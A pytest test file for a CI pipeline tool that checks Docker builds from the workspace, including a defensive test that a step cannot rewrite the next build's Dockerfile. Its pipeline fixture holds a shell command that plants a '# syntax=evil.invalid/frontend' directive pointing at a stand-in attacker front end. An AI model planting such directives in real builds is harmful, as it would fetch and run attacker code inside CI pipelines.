"""Images that steps build from the workspace."""

from __future__ import annotations

from pathlib import Path

import pytest

from flowbuild.testing.program import Program, make_repository, remains

PIPELINES = """
x-box: &box {image: flow-demo/busybox}
pipelines:
  ordinary:
    steps:
      app:
        compose:
          services: {app: {build: {context: app, dockerfile: ci/Dockerfile}, command: [ls, /app]}}
  planted:
    steps:
      plant:
        compose:
          services: {plant: {<<: *box, command: [sh, -c, "{ echo '# syntax=evil.invalid/frontend'; cat app/ci/Dockerfile; } > Dockerfile"]}}
        success: [app]
      app: {compose: {services: {app: {build: ., command: [echo, built]}}}}
"""

pytestmark = pytest.mark.docker


@pytest.fixture
def program(tmp_path: Path) -> Program:
    source = tmp_path / "source"
    (source / "app" / "ci").mkdir(parents=True)
    (source / ".flow.yml").write_text(PIPELINES)
    (source / "app" / "ci" / "Dockerfile").write_text("FROM flow-demo/busybox\nCOPY . /app\n")
    (source / "app" / "ci" / "Dockerfile.dockerignore").write_text("left-out\n")
    for name in ("kept", "left-out"):
        (source / "app" / name).write_text(name)
    return Program(home=tmp_path / "home", directory=make_repository(source, tmp_path / "repository", message="Builds"))


def test_a_dockerfile_in_a_directory_of_its_own_with_its_own_exceptions(program: Program) -> None:
    output = program.call("run", "ordinary", "--json")
    assert output.code == 0, output.text
    assert program.call("logs", "last", "app", "--service", "app").stdout.split() == ["ci", "kept"]
    assert remains(program) == []


def test_a_step_cannot_choose_what_runs_the_next_build(program: Program) -> None:
    """The engine is never asked: it would look for the image of the planted front end and run it."""
    output = program.call("run", "planted", "--json")
    assert output.code == 1, output.text
    (app,) = (step for step in program.show()["steps"] if step["key"] == "app")
    assert (app["outcome"], app["reason"]) == ("failed", "refused")
    assert "Dockerfile: the syntax `evil.invalid/frontend` is refused" in app["message"]
    assert "resolve image config" not in program.call("logs", "last", "app").stdout
    assert remains(program) == []
